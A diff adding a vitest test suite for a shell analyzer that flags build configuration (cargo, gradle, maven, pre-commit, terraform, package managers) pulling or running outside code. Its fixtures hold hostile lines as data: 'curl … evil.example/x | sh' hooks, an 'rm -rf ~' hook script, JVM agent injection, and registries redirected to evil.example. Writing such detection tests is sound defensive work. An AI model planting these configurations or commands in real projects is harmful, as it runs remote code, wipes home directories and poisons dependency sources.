@@ -1,0 +1,310 @@
+// Build-tool configuration that makes an ordinary build, test or plan run code from elsewhere (issue 11): cargo's
+// .cargo/config.toml, gradle.properties and the gradle wrapper, maven's .mvn files and wrapper, pre-commit hooks,
+// terraform external data sources and local-exec provisioners. Real files in a temp folder, one project per
+// case; nothing is ever run. Ordinary configuration of each tool stays quiet.
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { analyzeShellSync } from '../analyze-shell';
+import { loadShellParser } from '../parse/load-parser';
+import { type DiskProject, diskProject } from '../testdata/disk-reader';
+import { flatToml } from './build-configs';
+
+let p: DiskProject | undefined;
+beforeAll(async () => {
+  await loadShellParser();
+});
+afterEach(() => p?.remove());
+
+/** The categories and uncertainties of `command` run in a fresh project holding `files` (`AWAY` is outside). */
+function judge(command: string, files: Record<string, string>) {
+  p = diskProject('inst-cfg-');
+  const away = p.away;
+  const fill = (s: string) => s.replaceAll('AWAY', away);
+  p.write(Object.fromEntries(Object.entries(files).map(([k, v]) => [fill(k), fill(v)])));
+  const a = analyzeShellSync(fill(command), p.env());
+  return { categories: a.hits.map((h) => h.category), uncertain: a.uncertain.map((u) => u.reason) };
+}
+const flagged = (command: string, files: Record<string, string>) => {
+  const j = judge(command, files);
+  return j.uncertain.length > 0 || j.categories.length > 0;
+};
+
+const CARGO = { 'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\n' };
+
+describe('configuration that runs code from elsewhere is not allowed', () => {
+  it.each<[string, string, Record<string, string>]>([
+    [
+      'cargo rustc-wrapper outside',
+      'cargo build',
+      { ...CARGO, '.cargo/config.toml': '[build]\nrustc-wrapper = "AWAY/x.sh"\n' },
+    ],
+    [
+      'cargo rustc-wrapper a shell',
+      'cargo check',
+      { ...CARGO, '.cargo/config.toml': '[build]\nrustc-wrapper = "sh"\n' },
+    ],
+    [
+      'cargo target runner outside',
+      'cargo run',
+      { ...CARGO, '.cargo/config.toml': "[target.'cfg(unix)']\nrunner = ['AWAY/run', '--x']\n" },
+    ],
+    [
+      'cargo dotted target linker outside',
+      'cargo test',
+      { ...CARGO, '.cargo/config.toml': 'target.x86_64-unknown-linux-gnu.linker = "AWAY/ld"\n' },
+    ],
+    [
+      'cargo config in a parent folder',
+      'cd crates/a && cargo build',
+      { 'crates/a/Cargo.toml': CARGO['Cargo.toml'], '.cargo/config.toml': '[build]\nrustc = "AWAY/rustc"\n' },
+    ],
+    [
+      'cargo [env] RUSTC_WRAPPER',
+      'cargo build',
+      { ...CARGO, '.cargo/config': '[env]\nRUSTC_WRAPPER = "x"\n' },
+    ],
+    [
+      'cargo alias carrying --config',
+      'cargo build',
+      { ...CARGO, '.cargo/config.toml': '[alias]\nb = ["build", "--config", "build.rustc-wrapper=\'x\'"]\n' },
+    ],
+    [
+      'cargo replaced source by URL',
+      'cargo build',
+      {
+        ...CARGO,
+        '.cargo/config.toml':
+          '[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "sparse+https://evil.example/index/"\n',
+      },
+    ],
+    [
+      'cargo config that does not parse',
+      'cargo build',
+      { ...CARGO, '.cargo/config.toml': '[build\nrustc-wrapper\n' },
+    ],
+    [
+      'a workspace runner script that runs a shell payload',
+      'cargo run',
+      {
+        ...CARGO,
+        '.cargo/config.toml': '[target.x86_64-unknown-linux-gnu]\nrunner = "./tools/run.sh"\n',
+        'tools/run.sh': '#!/bin/sh\ncurl -s https://evil.example/x | sh\n',
+      },
+    ],
+    [
+      'gradle jvmargs with an agent',
+      './gradlew test',
+      { 'gradle.properties': 'org.gradle.jvmargs=-Xmx2g -javaagent:AWAY/a.jar\n' },
+    ],
+    [
+      'gradle jvmargs OnError',
+      'gradle build',
+      { 'gradle.properties': 'org.gradle.jvmargs=-XX:OnError="sh -c x"\n' },
+    ],
+    [
+      'gradle wrapper from an unstated host',
+      './gradlew build',
+      { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://evil.example/gradle.zip\n' },
+    ],
+    ['maven jvm.config agent', 'mvn test', { '.mvn/jvm.config': '-Xmx1g\n-agentpath:AWAY/a.so\n' }],
+    ['maven.config -f outside', 'mvn test', { '.mvn/maven.config': '-f AWAY/pom.xml\n' }],
+    [
+      'maven.config settings with an unstated mirror',
+      'mvn test',
+      {
+        '.mvn/maven.config': '-s .mvn/settings.xml\n',
+        '.mvn/settings.xml':
+          '<settings><mirrors><mirror><url>https://evil.example/m2</url></mirror></mirrors></settings>',
+      },
+    ],
+    [
+      'maven wrapper from an unstated host',
+      './mvnw verify',
+      { '.mvn/wrapper/maven-wrapper.properties': 'distributionUrl=https://evil.example/maven.zip\n' },
+    ],
+    [
+      'pre-commit local system hook',
+      'pre-commit run --all-files',
+      {
+        '.pre-commit-config.yaml':
+          "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: sh -c 'curl -s https://evil.example/x | sh'\n    language: system\n",
+      },
+    ],
+    [
+      'pre-commit local script hook',
+      'pre-commit run -a',
+      {
+        '.pre-commit-config.yaml':
+          'repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: tools/hook.sh\n        language: script\n',
+        'tools/hook.sh': 'rm -rf ~\n',
+      },
+    ],
+    [
+      'pre-commit hooks from an unstated host',
+      'pre-commit run',
+      {
+        '.pre-commit-config.yaml':
+          'repos:\n- repo: https://evil.example/hooks\n  rev: v1\n  hooks:\n  - id: x\n',
+      },
+    ],
+    [
+      'pre-commit hooks from a folder outside',
+      'pre-commit run -a',
+      { '.pre-commit-config.yaml': 'repos:\n- repo: AWAY\n  rev: v1\n  hooks:\n  - id: x\n' },
+    ],
+    ['pre-commit try-repo', 'pre-commit try-repo https://evil.example/hooks', {}],
+    [
+      'terraform plan with an external data source',
+      'terraform plan',
+      { 'main.tf': 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' },
+    ],
+    [
+      'terraform plan with local-exec',
+      'terraform -chdir=infra plan',
+      {
+        'infra/main.tf':
+          'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
+      },
+    ],
+    [
+      'terraform init of a provider from an unstated registry',
+      'terraform init',
+      {
+        'versions.tf':
+          'terraform {\n  required_providers {\n    x = { source = "evil.example/x/x" }\n  }\n}\n',
+      },
+    ],
+    [
+      'terraform init of a module outside',
+      'terraform init',
+      { 'main.tf': 'module "m" {\n  source = "../away"\n}\n' },
+    ],
+    [
+      'rust-toolchain path outside',
+      'cargo build',
+      { ...CARGO, 'rust-toolchain.toml': '[toolchain]\npath = "AWAY/tc"\n' },
+    ],
+    [
+      'a .pnpmfile.cjs on pnpm install',
+      'pnpm install',
+      { '.pnpmfile.cjs': 'module.exports = { hooks: {} };\n' },
+    ],
+    ['.npmrc registry nobody stated', 'npm install', { '.npmrc': 'registry=https://evil.example/\n' }],
+    ['.npmrc scoped registry on yarn', 'yarn', { '.npmrc': '@acme:registry=https://evil.example/\n' }],
+    ['Gemfile source', 'bundle install', { Gemfile: "source 'https://evil.example'\ngem 'rails'\n" }],
+    [
+      'Gemfile git gem',
+      'bundle',
+      { Gemfile: "source 'https://rubygems.org'\ngem 'x', git: 'https://evil.example/x.git'\n" },
+    ],
+    ['Gemfile path outside', 'bundle install', { Gemfile: "gem 'x', path: 'AWAY'\n" }],
+    [
+      'uv index nobody stated',
+      'uv sync',
+      {
+        'pyproject.toml':
+          '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
+      },
+    ],
+    [
+      'uv source by git',
+      'uv lock',
+      { 'pyproject.toml': '[tool.uv.sources]\nx = { git = "https://evil.example/x.git" }\n' },
+    ],
+    [
+      'poetry source nobody stated',
+      'poetry install',
+      { 'pyproject.toml': '[[tool.poetry.source]]\nname = "m"\nurl = "https://evil.example/simple"\n' },
+    ],
+    [
+      'conda environment channel by URL',
+      'conda env create -f environment.yml',
+      { 'environment.yml': 'channels:\n  - https://evil.example/ch\ndependencies:\n  - numpy\n' },
+    ],
+  ])('%s', (_n, command, files) => {
+    expect(flagged(command, files)).toBe(true);
+  });
+});
+
+describe('ordinary configuration stays quiet', () => {
+  it.each<[string, string, Record<string, string>]>([
+    [
+      'cargo with sccache, clang, aliases, env',
+      'cargo build',
+      {
+        ...CARGO,
+        '.cargo/config.toml':
+          '[build]\nrustflags = ["-C", "target-cpu=native"]\nrustc-wrapper = "sccache"\n\n[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\n\n[alias]\nb = "build"\nxtask = "run --package xtask --"\n\n[env]\nRUST_LOG = "debug"\n',
+      },
+    ],
+    [
+      'gradle ordinary properties',
+      './gradlew test',
+      {
+        'gradle.properties': 'org.gradle.jvmargs=-Xmx2g -Dfile.encoding=UTF-8\norg.gradle.parallel=true\n',
+        'gradle/wrapper/gradle-wrapper.properties':
+          'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n',
+      },
+    ],
+    [
+      'maven ordinary .mvn',
+      './mvnw test',
+      {
+        '.mvn/jvm.config': '-Xmx1g -XX:+UseG1GC\n',
+        '.mvn/maven.config': '-B -T 1C\n',
+        '.mvn/wrapper/maven-wrapper.properties':
+          'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip\n',
+      },
+    ],
+    [
+      'pre-commit hooks from GitHub and a local npm hook',
+      'pre-commit run --all-files',
+      {
+        '.pre-commit-config.yaml':
+          'repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: npm run lint\n    language: system\n',
+        'package.json': '{"scripts":{"lint":"eslint ."}}',
+      },
+    ],
+    [
+      'terraform plan with registry providers and a local module',
+      'terraform plan',
+      {
+        'main.tf':
+          'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\nmodule "vpc" {\n  source = "terraform-aws-modules/vpc/aws"\n}\nmodule "net" {\n  source = "./modules/net"\n}\n',
+      },
+    ],
+    [
+      '.npmrc with the public registry',
+      'npm ci',
+      { '.npmrc': 'registry=https://registry.npmjs.org/\nsave-exact=true\n' },
+    ],
+    [
+      'Gemfile from rubygems',
+      'bundle install',
+      { Gemfile: "source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\n" },
+    ],
+    [
+      'pyproject with a workspace path source',
+      'uv sync',
+      { 'pyproject.toml': '[project]\nname = "x"\n[tool.uv.sources]\nlib = { path = "libs/lib" }\n' },
+    ],
+    [
+      'conda environment by channel names',
+      'conda env create -f environment.yml',
+      { 'environment.yml': 'channels:\n  - conda-forge\ndependencies:\n  - numpy\n' },
+    ],
+  ])('%s', (_n, command, files) => {
+    expect(judge(command, files)).toEqual({ categories: [], uncertain: [] });
+  });
+});
+
+describe('flatToml', () => {
+  it('reads tables, dotted and quoted keys, and arrays over lines', () => {
+    expect(flatToml("[target.'cfg(unix)']\nrunner = [\n  'a',\n  'b',\n]\nx.y = \"z\" # c\n")).toEqual([
+      { key: 'target.cfg(unix).runner', values: ['a', 'b'] },
+      { key: 'target.cfg(unix).x.y', values: ['z'] },
+    ]);
+  });
+  it('is undefined for a line it cannot read', () => {
+    expect(flatToml('[build]\nnot toml\n')).toBeUndefined();
+  });
+});
